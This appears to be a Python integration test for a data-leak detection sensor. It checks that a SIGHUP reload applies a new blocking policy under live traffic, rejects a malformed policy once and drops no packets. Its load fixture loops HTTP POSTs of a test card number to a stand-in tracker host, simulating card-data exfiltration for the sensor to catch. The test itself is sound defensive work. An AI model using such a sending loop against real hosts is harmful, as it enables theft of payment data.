"""sense -i: SIGHUP reads pack and policy anew, under load, without a lost packet."""

import select
import signal
import sys
import time

from harness import records_in
from live import SERVER, LiveCase

POLICY = """leakwire: 1
we: {name: Example SE, domains: [example.com], networks: [10.0.0.0/8]}
rules:
  - {name: the-rule, when: {category: payment.card}, then: ACTION}
"""

# Cards for as long as it lives, one request a connection.
LOAD = """
import socket, time
body = b"card=4111111111111111&n=1"
head = b"POST /c HTTP/1.1\\r\\nHost: collect.tracker.example\\r\\nConnection: close\\r\\n"
while True:
    try:
        with socket.create_connection(("203.0.113.9", 80)) as to:
            to.sendall(head + b"Content-Length: %d\\r\\n\\r\\n" % len(body) + body)
            while to.recv(4096):
                pass
    except OSError:
        pass
    time.sleep(0.05)
"""


class Reload(LiveCase):
    def verdict(self, out, action):
        """Whether a finding with it is told in time; the file grows, so that it is not parsed."""
        until = time.monotonic() + 20
        while time.monotonic() < until:
            if out.exists() and b'"action":"%s"' % action in out.read_bytes():
                return True
            time.sleep(0.1)
        return False

    def test_policy_and_bad_policy_under_load(self):
        self.process(self.enter(self.there, sys.executable, "-c", SERVER))
        policy = self.write("p.yaml", POLICY.replace("ACTION", "report"))
        policy.chmod(0o644)
        self.folder.chmod(0o755)
        out = self.folder / "findings.ndjson"
        sensor = self.sense(out, "--policy", str(policy), "--every", "-j", "2")
        self.process(self.enter(self.here, sys.executable, "-c", LOAD))
        self.assertTrue(self.verdict(out, b"report"), "no finding")
        policy.write_text(POLICY.replace("ACTION", "block"))
        sensor.send_signal(signal.SIGHUP)
        self.assertTrue(self.verdict(out, b"block"), "the new policy does not count")
        # A bad file: the old one stays, which is told once.
        policy.write_text("leakwire: 1\nrules: [{name: x, when: {category: 1}, then: nothing}]\n")
        sensor.send_signal(signal.SIGHUP)
        self.assertTrue(self.wait_for_text(sensor, b"pack and policy stay as they were"))
        seen = out.read_bytes().count(b"\n")
        time.sleep(1)
        sensor.send_signal(signal.SIGINT)
        sensor.wait(20)
        self.told += sensor.stderr.read()
        self.assertEqual(sensor.returncode, 2, self.told)  # a reload could not be done
        self.assertEqual(self.told.count(b"p.yaml:2:"), 2, self.told)  # all mistakes, once
        self.assertEqual(self.told.count(b"pack and policy were read anew"), 1)
        self.assertEqual(self.told.count(b"stay as they were"), 1)
        later = [r for r in records_in(out)[seen:] if r["event_type"] == "finding"]
        self.assertTrue(later)
        self.assertEqual({r["verdict"]["action"] for r in later}, {"block"})
        last = [r for r in records_in(out) if r["event_type"] == "stats"][-1]["stats"]
        self.assertEqual(last["received"], last["processed"] + last["dropped"])
        self.assertEqual(last["dropped"], 0, last)
        self.assertEqual((last["gaps"], last["evicted"]), (0, 0))

    def wait_for_text(self, sensor, text):
        self.told = b""
        until = time.monotonic() + 20
        while time.monotonic() < until and text not in self.told:
            if select.select([sensor.stderr], [], [], 0.2)[0]:
                got = sensor.stderr.read1(65536)
                if not got:
                    break
                self.told += got
        return text in self.told
